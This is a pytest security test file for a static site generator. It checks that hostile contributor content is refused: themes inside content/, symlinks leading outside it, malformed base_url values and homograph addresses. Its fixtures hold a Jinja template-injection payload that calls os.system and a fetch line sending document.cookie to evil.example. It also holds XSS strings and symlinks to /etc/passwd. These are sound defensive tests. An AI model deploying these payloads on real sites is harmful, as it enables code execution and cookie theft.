"""What a pull request can do beyond the values in fields: name a theme, add symlinks, break the build.

Each test plants what a hostile contributor would commit (a theme folder inside content/, a real
symlink out of content/, a period at the end of the calendar, ...) and asserts the exact refusal
a user sees: `path:line:col: message`, exit 1, nothing written and no code run.
"""

from __future__ import annotations

import contextlib
import errno
import os
import pathlib
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.snapshots import Run, build, leftovers, run_cli, tree_digest

#: The payload of issue 13: a template that runs a shell command when it is rendered.
RUNS_A_COMMAND = "{{ cycler.__init__.__globals__.os.system('touch %s') }}"
PROBLEM = re.compile(r"^\s*(\S+\.(?:yaml|md)):(\d+):(\d+): (.*)$", re.MULTILINE)


def problems(run: Run) -> list[tuple[str, int, int, str]]:
    """Return the `path:line:col: message` lines a run printed, paths relative to the content folder."""
    return [(path.rpartition("content/")[2], int(line), int(col), message)
            for path, line, col, message in PROBLEM.findall(run.err)]


def set_site_key(content: Path, key: str, value: str) -> int:
    """Append `key: value` to content/site.yaml and return its line."""
    site = content / "site.yaml"
    text = site.read_text(encoding="utf-8")
    text = text if text.endswith("\n") else text + "\n"
    site.write_text(f"{text}{key}: {value}\n", encoding="utf-8")
    return text.count("\n") + 1


# --- A theme is code: never from content/ ---------------------------------------------------------

def plant_evil_theme(folder: Path, canary: Path) -> None:
    """Make a theme folder whose 404 page runs a command and whose tables.js replaces the site's own."""
    (folder / "site").mkdir(parents=True)
    (folder / "site" / "404.html").write_text(RUNS_A_COMMAND % canary, encoding="utf-8")
    (folder / "static" / "js").mkdir(parents=True)
    (folder / "static" / "js" / "tables.js").write_text("fetch('https://evil.example/?'+document.cookie)\n")


def assert_theme_refused(content: Path, tmp_path: Path, line: int, canary: Path) -> None:
    """Assert check and build refuse the theme at its line in site.yaml, run nothing and write nothing."""
    for command in (["check", "--content", content], None):
        output = tmp_path / "output"
        run = run_cli(*command) if command else build(content, output, "--no-pdf")
        assert run.status == 1, run.err
        found = [p for p in problems(run) if p[0] == "site.yaml"]
        assert [(p[1], p[2]) for p in found] == [(line, 8)], run.err
        assert "a theme is code" in found[0][3] and "--theme" in found[0][3]
        assert not canary.exists(), "the theme's template ran"
        assert not output.exists() and leftovers(output) == []


def test_a_theme_inside_content_is_refused_before_it_runs(content_copy: Path, tmp_path: Path) -> None:
    canary = tmp_path / "pwned"
    plant_evil_theme(content_copy / "assets" / "evil", canary)
    line = set_site_key(content_copy, "theme", "content/assets/evil")
    assert_theme_refused(content_copy, tmp_path, line, canary)


@pytest.mark.parametrize("name", ["content", "content/.", "content//assets/./evil/"])
def test_content_itself_or_a_folder_holding_it_is_no_theme(name: str, content_copy: Path, tmp_path: Path) -> None:
    canary = tmp_path / "pwned"
    plant_evil_theme(content_copy, canary)
    plant_evil_theme(content_copy / "assets" / "evil", canary)
    line = set_site_key(content_copy, "theme", name)
    assert_theme_refused(content_copy, tmp_path, line, canary)


def test_a_symlink_in_content_to_a_theme_outside_is_refused(content_copy: Path, tmp_path: Path) -> None:
    """The link is content's to point anywhere, so its target is not the owner's choice."""
    canary = tmp_path / "pwned"
    plant_evil_theme(tmp_path / "elsewhere", canary)
    (content_copy / "theme").symlink_to(tmp_path / "elsewhere")
    line = set_site_key(content_copy, "theme", "content/theme")
    assert_theme_refused(content_copy, tmp_path, line, canary)


def test_a_folder_next_to_content_linking_into_it_is_refused(content_copy: Path, tmp_path: Path) -> None:
    canary = tmp_path / "pwned"
    plant_evil_theme(content_copy / "assets" / "evil", canary)
    (tmp_path / "house-style").symlink_to(content_copy / "assets" / "evil")
    line = set_site_key(content_copy, "theme", "house-style")
    assert_theme_refused(content_copy, tmp_path, line, canary)


def test_the_owner_s_theme_next_to_content_is_used(content_copy: Path, tmp_path: Path) -> None:
    """The positive case: a theme folder beside content/ runs, so the refusals above mean something."""
    (tmp_path / "house-style" / "static" / "js").mkdir(parents=True)
    (tmp_path / "house-style" / "static" / "js" / "tables.js").write_text("/* house */\n")
    set_site_key(content_copy, "theme", "house-style")
    output = tmp_path / "output"
    run = build(content_copy, output, "--no-pdf")
    assert run.status == 0, run.err
    assert (output / "assets" / "js" / "tables.js").read_text() == "/* house */\n"


def test_a_theme_inside_content_given_on_the_command_line_is_the_owner_s_choice(content_copy: Path,
                                                                                  tmp_path: Path) -> None:
    """--theme is typed by whoever runs the build: it is obeyed wherever it points."""
    (content_copy / "assets" / "mine" / "static" / "js").mkdir(parents=True)
    (content_copy / "assets" / "mine" / "static" / "js" / "tables.js").write_text("/* mine */\n")
    output = tmp_path / "output"
    run = build(content_copy, output, "--no-pdf", "--theme", content_copy / "assets" / "mine")
    assert run.status == 0, run.err
    assert (output / "assets" / "js" / "tables.js").read_text() == "/* mine */\n"


# --- Content files are confined to content/ ----------------------------------------------------------

KHARAB = "incidents/2024-04-21-kharab-al-jir-rockets.yaml"
SECRET_INCIDENT = "2024-04-21-kharab-al-jir-rockets"  # a valid incident, so only the link can be wrong


def assert_refused_at(run: Run, expected: set[tuple[str, str]], *never: str) -> None:
    """Assert exit 1, a problem at line 1 of each file with the given words, and no trace of the secrets."""
    assert run.status == 1, run.err
    assert "Traceback" not in run.err and "internal error" not in run.err
    found = {(path, message) for path, line, _, message in problems(run) if line == 1}
    for path, words in expected:
        assert any(p == path and words in m for p, m in found), f"nothing at {path}:1 saying {words!r}:\n{run.err}"
    for secret in never:
        assert secret not in run.err and secret not in run.out


def test_an_incident_linked_from_outside_content_is_refused_unread(content_copy: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    secret = (content_copy / KHARAB).read_text().replace("title: ", "title: SECRET-SOURCE-NAME ", 1)
    (elsewhere / "secret.yaml").write_text(secret.replace(SECRET_INCIDENT, "2024-04-21-secret"))
    (content_copy / "incidents" / "x.yaml").symlink_to(elsewhere / "secret.yaml")
    output = tmp_path / "output"
    for run in (run_cli("check", "--content", content_copy), build(content_copy, output, "--no-pdf")):
        assert_refused_at(run, {("incidents/x.yaml", "leading out of the content folder")}, "SECRET-SOURCE-NAME")
    assert not output.exists() and leftovers(output) == []


def test_a_link_to_etc_passwd_shows_no_line_of_it(content_copy: Path, tmp_path: Path) -> None:
    first_line = Path("/etc/passwd").read_text().splitlines()[0]
    (content_copy / "incidents" / "zz.yaml").symlink_to("/etc/passwd")
    run = run_cli("check", "--content", content_copy)
    assert_refused_at(run, {("incidents/zz.yaml", "leading out of the content folder")}, first_line, "root:")


def test_the_serve_overlay_shows_no_excerpt_of_a_file_outside(content_copy: Path) -> None:
    from sitrep.errors import Problem
    from sitrep.serve import problem_record

    (content_copy / "incidents" / "zz.yaml").symlink_to("/etc/passwd")
    record = problem_record(Problem("content/incidents/zz.yaml", 1, 1, "a link"), content_copy)
    assert record["excerpt"] == "" and "root" not in str(record)
    inside = problem_record(Problem("content/site.yaml", 1, 1, "a setting"), content_copy)
    assert "Settings for the whole site" in inside["excerpt"]  # the positive case: an excerpt is shown


def test_a_context_note_and_a_folder_linked_from_outside_are_refused(content_copy: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "notes").mkdir(parents=True)
    note = "---\nid: leaked-note\ntitle: Leaked\ndate: 2024-04-01\n---\n\nPRIVATE-MEMO-TEXT\n"
    (elsewhere / "note.md").write_text(note)
    (elsewhere / "notes" / "other.md").write_text(note.replace("leaked-note", "other-note"))
    (content_copy / "context" / "leak.md").symlink_to(elsewhere / "note.md")
    shutil_rmtree_then_link(content_copy / "deployments", elsewhere / "notes")
    (elsewhere / "notes" / "d.yaml").write_text("id: leaked-deployment\n")
    run = run_cli("check", "--content", content_copy)
    assert_refused_at(run, {("context/leak.md", "leading out"), ("deployments/d.yaml", "leading out")},
                      "PRIVATE-MEMO-TEXT", "leaked-deployment")


def shutil_rmtree_then_link(folder: Path, target: Path) -> None:
    """Replace a content folder by a link to another folder."""
    import shutil

    shutil.rmtree(folder, ignore_errors=True)
    folder.symlink_to(target, target_is_directory=True)


def test_symlink_loops_among_entity_files_are_errors_at_the_files(content_copy: Path, tmp_path: Path) -> None:
    incidents = content_copy / "incidents"
    (incidents / "a.yaml").symlink_to("b.yaml")
    (incidents / "b.yaml").symlink_to("a.yaml")
    (incidents / "self.yaml").symlink_to("self.yaml")
    (content_copy / "context" / "gone.md").symlink_to(tmp_path / "no-such-note.md")
    expected = {("incidents/a.yaml", "loop"), ("incidents/b.yaml", "loop"), ("incidents/self.yaml", "loop"),
                ("context/gone.md", "does not exist")}
    for run in (run_cli("check", "--content", content_copy), build(content_copy, tmp_path / "output", "--no-pdf")):
        assert_refused_at(run, expected)
        assert run.status != 70


def test_a_site_yaml_linked_from_outside_is_refused(content_copy: Path, tmp_path: Path) -> None:
    (tmp_path / "site.yaml").write_text((content_copy / "site.yaml").read_text() + "title: OUTSIDE-TITLE\n")
    (content_copy / "site.yaml").unlink()
    (content_copy / "site.yaml").symlink_to(tmp_path / "site.yaml")
    assert_refused_at(run_cli("check", "--content", content_copy), {("site.yaml", "leading out")}, "OUTSIDE-TITLE")


def test_a_link_between_files_inside_content_is_read(content_copy: Path, tmp_path: Path) -> None:
    """The positive case: a link that stays inside content/ is content like any other file."""
    (content_copy / "drafts").mkdir()
    (content_copy / KHARAB).rename(content_copy / "drafts" / "kharab.yaml")
    (content_copy / KHARAB).symlink_to("../drafts/kharab.yaml")
    output = tmp_path / "output"
    run = build(content_copy, output, "--no-pdf")
    assert run.status == 0, run.err
    assert (output / "incidents" / f"{SECRET_INCIDENT}.html").is_file()


# --- What check passes, the build builds --------------------------------------------------------------

BRIEF = "briefs/2024-04-22.yaml"


def replace_line(content: Path, relative: str, old: str, new: str) -> int:
    """Replace the one line holding old in a content file with new; return its line number."""
    path = content / relative
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    number = next(i for i, line in enumerate(lines) if old in line)
    lines[number] = lines[number].replace(old, new)
    path.write_text("".join(lines), encoding="utf-8")
    return number + 1


@pytest.mark.parametrize("old, new, relative", [
    ("start: 2024-04-16", "start: 0001-01-01", BRIEF),
    ("end: 2024-04-22", "end: 9999-12-31", BRIEF),
    ("cutoff: 2024-04-22T12:00:00+03:00", "cutoff: 9999-12-31T23:59:00+03:00", BRIEF),
    ("date: 2024-04-21", 'date: "0001-01-01"', "incidents/2024-04-21-kharab-al-jir-rockets.yaml"),
], ids=["period-from-year-1", "period-to-9999", "cutoff-in-9999", "incident-in-year-1-quoted"])
def test_a_date_at_the_end_of_the_calendar_is_refused_by_check(old: str, new: str, relative: str,
                                                               content_copy: Path, tmp_path: Path) -> None:
    line = replace_line(content_copy, relative, old, new)
    output = tmp_path / "output"
    for run in (run_cli("check", "--content", content_copy), build(content_copy, output, "--no-pdf")):
        assert run.status == 1, run.err
        assert "Traceback" not in run.err and "internal error" not in run.err
        assert any(p[:2] == (relative, line) and "outside the years 1800–2199" in p[3] for p in problems(run)), \
            run.err
    assert not output.exists()


@pytest.mark.parametrize("start, end", [("1800-01-01", "1800-01-07"), ("2199-12-25", "2199-12-31")])
def test_a_brief_at_the_edges_of_the_accepted_calendar_builds(start: str, end: str, content_copy: Path,
                                                             tmp_path: Path) -> None:
    """The positive case: what check accepts at its limits, the build computes (previous period, charts)."""
    replace_line(content_copy, BRIEF, "start: 2024-04-16", f"start: {start}")
    replace_line(content_copy, BRIEF, "end: 2024-04-22", f"end: {end}")
    replace_line(content_copy, BRIEF, "cutoff: 2024-04-22T12:00:00+03:00", f"cutoff: {end}T12:00:00+03:00")
    replace_line(content_copy, BRIEF, "published: 2024-04-22", f"published: {end}")
    replace_line(content_copy, BRIEF, "next_report: 2024-04-29", f"next_report: {end}")
    assert run_cli("check", "--content", content_copy).status == 0
    output = tmp_path / "output"
    run = build(content_copy, output)
    assert run.status == 0, run.err
    assert (output / "briefs" / "brief-2024-04-22.pdf").is_file()


# --- The machine refuses a write: a full disk, a read-only folder ---------------------------------------

@contextlib.contextmanager
def mounted(*command: str | Path) -> Iterator[bool]:
    """Run a mount command, yield whether it worked, and undo it (as root; elsewhere it is refused)."""
    target = command[-1]
    done = os.geteuid() == 0 and subprocess.run(["mount", *map(str, command)], capture_output=True).returncode == 0
    try:
        yield done
    finally:
        if done:
            subprocess.run(["umount", "-l", str(target)], check=True)


def refuse_writes_under(monkeypatch: pytest.MonkeyPatch, folder: Path, code: int) -> None:
    """Without mount rights: raise the OS error a full or read-only disk raises, at the same calls."""
    original_write, original_mkdir = pathlib.Path.write_bytes, pathlib.Path.mkdir

    def write_bytes(self: Path, data: bytes) -> int:
        if self.absolute().is_relative_to(folder):
            raise OSError(code, os.strerror(code))  # a write that fills the disk names no file
        return original_write(self, data)

    def mkdir(self: Path, *args: object, **kwargs: object) -> None:
        if code == errno.EROFS and self.absolute().is_relative_to(folder):
            raise OSError(code, os.strerror(code), str(self))
        original_mkdir(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(pathlib.Path, "write_bytes", write_bytes)
    monkeypatch.setattr(pathlib.Path, "mkdir", mkdir)


def fill(folder: Path) -> None:
    """Write a file into folder until its file system has no space left."""
    with (folder / "filler").open("wb", buffering=0) as filler, contextlib.suppress(OSError):
        while True:  # unbuffered: nothing is left to write (and fail) when the file closes
            filler.write(b"\0" * 65536)


def assert_refused_in_one_line(run: Run, folder: Path, words: str, output: Path, before: dict[str, str]) -> None:
    """Assert exit 74 and one line naming a path under folder and the OS error; output/ as it was."""
    assert run.status == 74, run.err
    lines = run.err.strip().splitlines()
    assert len(lines) == 1, run.err
    assert f"cannot write {folder}" in lines[0] and words in lines[0], run.err
    assert tree_digest(output) == before
    assert leftovers(output) == []


def edit_an_incident(content: Path) -> None:
    """Change one incident's title, so that a rebuild has pages to write."""
    path = content / KHARAB
    path.write_text(path.read_text().replace("title: ", "title: Revised ", 1))


def test_a_full_disk_is_one_line_and_output_stays(content_copy: Path, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    disk = tmp_path / "disk"
    disk.mkdir()
    with mounted("-t", "tmpfs", "-o", "size=16m", "tmpfs", disk) as real:
        output = disk / "output"
        assert build(content_copy, output, "--no-pdf").status == 0
        before = tree_digest(output)
        edit_an_incident(content_copy)
        if real:
            fill(disk)
        else:
            refuse_writes_under(monkeypatch, disk, errno.ENOSPC)
        run = build(content_copy, output, "--no-pdf")
        assert_refused_in_one_line(run, disk, "No space left on device (ENOSPC)", output, before)


def test_a_read_only_output_folder_is_one_line_and_output_stays(content_copy: Path, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    site = tmp_path / "site"
    site.mkdir()
    output = site / "output"
    assert build(content_copy, output, "--no-pdf").status == 0
    before = tree_digest(output)
    edit_an_incident(content_copy)
    with mounted("--bind", site, site) as real:
        if real:
            subprocess.run(["mount", "-o", "remount,bind,ro", str(site)], check=True)
        else:
            refuse_writes_under(monkeypatch, site, errno.EROFS)
        run = build(content_copy, output, "--no-pdf")
        assert_refused_in_one_line(run, site, "Read-only file system (EROFS)", output, before)


# --- base_url is an address, robots.txt is plain text ------------------------------------------------------

@pytest.mark.parametrize("value", [
    r'"https://monitor.example.org/\nSitemap: https://evil.example/sitemap.xml"',
    r'"https://monitor.example.org/\r\nDisallow: /"',
    '"https://monitor.example.org/ briefs/"',
    '''"https://monitor.example.org/\\"><script>alert(1)</script>"''',
    "\"https://monitor.example.org/'onmouseover='alert(1)\"",
    r'"https://monitor.example.org/\u0085x"',
    r'"https://monitor.example.org/\tbriefs/"',
    '"https://monitor.example.org/?utm=x"',
    '"https://monitor.example.org/#top"',
    '"https://user:secret@monitor.example.org/"',
    '"https://аpple.com/"',  # a Cyrillic а: IDN hosts are written as punycode
    '"https:///etc/passwd"',
], ids=["newline-sitemap", "crlf", "space", "double-quote", "single-quote", "next-line", "tab", "query",
        "fragment", "credentials", "non-ascii-host", "no-host"])
def test_a_base_url_that_is_no_plain_address_is_refused(value: str, content_copy: Path, tmp_path: Path) -> None:
    line = set_site_key(content_copy, "base_url", value)
    output = tmp_path / "output"
    for run in (run_cli("check", "--content", content_copy), build(content_copy, output, "--no-pdf")):
        assert run.status == 1, run.err
        assert any(p[:2] == ("site.yaml", line) and "plain web address" in p[3] for p in problems(run)), run.err
    assert not output.exists()


def test_robots_txt_is_plain_text_and_the_sitemap_xml(content_copy: Path, tmp_path: Path) -> None:
    """The positive case: an address with '&' and a port is accepted, written as is in robots.txt."""
    set_site_key(content_copy, "base_url", "https://monitor.example.org:8443/r&d/briefs")
    output = tmp_path / "output"
    run = build(content_copy, output, "--no-pdf")
    assert run.status == 0, run.err
    robots = (output / "robots.txt").read_text()
    assert robots.splitlines()[-1] == "Sitemap: https://monitor.example.org:8443/r&d/briefs/sitemap.xml"
    assert "&amp;" not in robots and robots.count("\n") == 3
    assert "<loc>https://monitor.example.org:8443/r&amp;d/briefs/index.html</loc>" in (
        output / "sitemap.xml").read_text()


# --- Places within themselves --------------------------------------------------------------------------

def add_key(content: Path, relative: str, key: str, value: str) -> int:
    """Append `key: value` to a content file and return its line."""
    path = content / relative
    text = path.read_text(encoding="utf-8")
    path.write_text(f"{text}{key}: {value}\n", encoding="utf-8")
    return text.count("\n") + 1


def test_places_within_each_other_or_themselves_are_refused_at_the_line(content_copy: Path,
                                                                         tmp_path: Path) -> None:
    babil = add_key(content_copy, "locations/babil-province.yaml", "within", "kalsu-base")  # kalsu is in babil
    baghdad = add_key(content_copy, "locations/baghdad.yaml", "within", "baghdad")
    coalition = add_key(content_copy, "actors/global-coalition.yaml", "part_of", "us-forces")
    kalsu = next(i for i, line in enumerate((content_copy / "locations/kalsu-base.yaml").read_text().splitlines(),
                                            1) if line.startswith("within:"))
    expected = {("locations/babil-province.yaml", babil, "'babil-province' → 'kalsu-base' → 'babil-province'"),
                ("locations/kalsu-base.yaml", kalsu, "'kalsu-base' → 'babil-province' → 'kalsu-base'"),
                ("locations/baghdad.yaml", baghdad, "cannot lie within itself ('baghdad' → 'baghdad')"),
                ("actors/global-coalition.yaml", coalition, "a group cannot be part of itself")}
    output = tmp_path / "output"
    assert build(content_copy, output, "--no-pdf", "--jobs", "1").status == 1  # a cold build, then with a cache
    for run in (run_cli("check", "--content", content_copy), build(content_copy, output, "--no-pdf")):
        assert run.status == 1, run.err
        found = problems(run)
        for path, line, words in expected:
            assert any(p[:2] == (path, line) and words in p[3] for p in found), (path, line, words, run.err)
    assert not output.exists()


def test_a_cycle_added_after_a_build_is_refused_by_the_next(content_copy: Path, tmp_path: Path) -> None:
    """The incremental build checks what it did not read again: here, the file that closes the circle."""
    output = tmp_path / "output"
    assert build(content_copy, output, "--no-pdf").status == 0
    line = add_key(content_copy, "locations/babil-province.yaml", "within", "kalsu-base")
    run = build(content_copy, output, "--no-pdf")
    assert run.status == 1, run.err
    assert ("locations/babil-province.yaml", line) in {p[:2] for p in problems(run)}


# --- Addresses that imitate others ---------------------------------------------------------------------

@pytest.mark.parametrize("url, shown", [
    # The expected forms are those of the idna package (UTS 46), as browsers send them.
    ("https://аpple.com/newsroom/", "https://xn--pple-43d.com/newsroom/"),  # a Cyrillic а among Latin letters
    ("https://www.αpple.com:8443/a?q=аpple.com", "https://www.xn--pple-zld.com:8443/a?q=аpple.com"),  # Greek α
    ("https://user@раураl.com/", "https://user@xn--l-7sba6dbr.com/"),  # Cyrillic р, а, у with a Latin l
    ("https://пример.рф/", "https://пример.рф/"),  # one script: shown as written
    ("https://münchen.de/", "https://münchen.de/"),
    ("https://ソニーsony.jp/", "https://ソニーsony.jp/"),  # Latin with Japanese: allowed, as in browsers
    ("https://example.org/аpple", "https://example.org/аpple"),  # the path is not the host
])
def test_a_host_mixing_scripts_is_shown_as_punycode(url: str, shown: str) -> None:
    from sitrep.render.text import display_url

    assert display_url(url) == shown


def test_a_cited_address_imitating_another_is_shown_as_punycode_on_pages_and_in_the_pdf(
        content_copy: Path, tmp_path: Path) -> None:
    cited = (content_copy / KHARAB).read_text(encoding="utf-8")
    documents = [d for d in (content_copy / "documents").glob("*.yaml") if d.stem in cited]
    assert documents
    for document in documents:  # every document the incident cites now claims to be at the imitation
        lines = [line for line in document.read_text(encoding="utf-8").splitlines() if not line.startswith("url:")]
        document.write_text("\n".join([*lines, 'url: "https://аpple.com/report"']) + "\n", encoding="utf-8")
    output = tmp_path / "output"
    run = build(content_copy, output)
    assert run.status == 0, run.err
    page = (output / "incidents" / f"{SECRET_INCIDENT}.html").read_text(encoding="utf-8")
    assert ">https://xn--pple-43d.com/report</a>" in page and ">https://аpple.com/report<" not in page
    brief = (output / "briefs" / "brief-2024-04-22.html").read_text(encoding="utf-8")
    assert ">https://xn--pple-43d.com/report</a>" in brief
    pdf_text = subprocess.run(["pdftotext", output / "briefs" / "brief-2024-04-22.pdf", "-"],
                              capture_output=True, text=True, check=True).stdout
    assert "xn--pple-43d.com" in pdf_text.replace("\n", "") and "аpple" not in pdf_text


# --- A resource the PDF would refuse is refused at the line that asks for it -----------------------------

@pytest.mark.parametrize("make", ["missing", "link-out", "loop"])
def test_an_image_the_pdf_would_refuse_is_an_error_at_its_line_and_column(make: str, content_copy: Path,
                                                                         tmp_path: Path) -> None:
    assets = content_copy / "assets" / "photos"
    assets.mkdir(parents=True)
    if make == "link-out":
        (assets / "base.png").symlink_to("/etc/passwd")
    elif make == "loop":
        (assets / "base.png").symlink_to("base.png")
    kharab = content_copy / KHARAB
    text = kharab.read_text(encoding="utf-8")
    first = "summary: |\n"
    assert first in text
    kharab.write_text(text.replace(first, first + "  Satellite view: ![the base](assets/photos/base.png)\n\n", 1),
                      encoding="utf-8")
    line = text[:text.index(first)].count("\n") + 2
    output = tmp_path / "output"
    for run in (run_cli("check", "--content", content_copy), build(content_copy, output)):
        assert run.status == 1, run.err
        assert "Traceback" not in run.err and ".pdf" not in run.err  # the content line, not the PDF
        found = [p for p in problems(run) if p[0] == KHARAB]
        assert [(p[1], p[2]) for p in found] == [(line, 31)], run.err
        assert "image 'assets/photos/base.png' must be a file under content/assets/" in found[0][3]
    assert not output.exists()


def test_an_image_removed_after_a_build_is_refused_at_its_line_by_the_next(content_copy: Path,
                                                                          tmp_path: Path) -> None:
    """The incremental build did not read the incident again: it still checks that the image is there."""
    (content_copy / "assets").mkdir()
    (content_copy / "assets" / "base.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    kharab = content_copy / KHARAB
    kharab.write_text(kharab.read_text().replace("summary: |\n", "summary: |\n  ![base](assets/base.png)\n\n", 1))
    output = tmp_path / "output"
    assert build(content_copy, output, "--no-pdf").status == 0
    (content_copy / "assets" / "base.png").unlink()
    run = build(content_copy, output, "--no-pdf")
    assert run.status == 1, run.err
    assert [p[0] for p in problems(run)] == [KHARAB] and "image 'assets/base.png'" in run.err
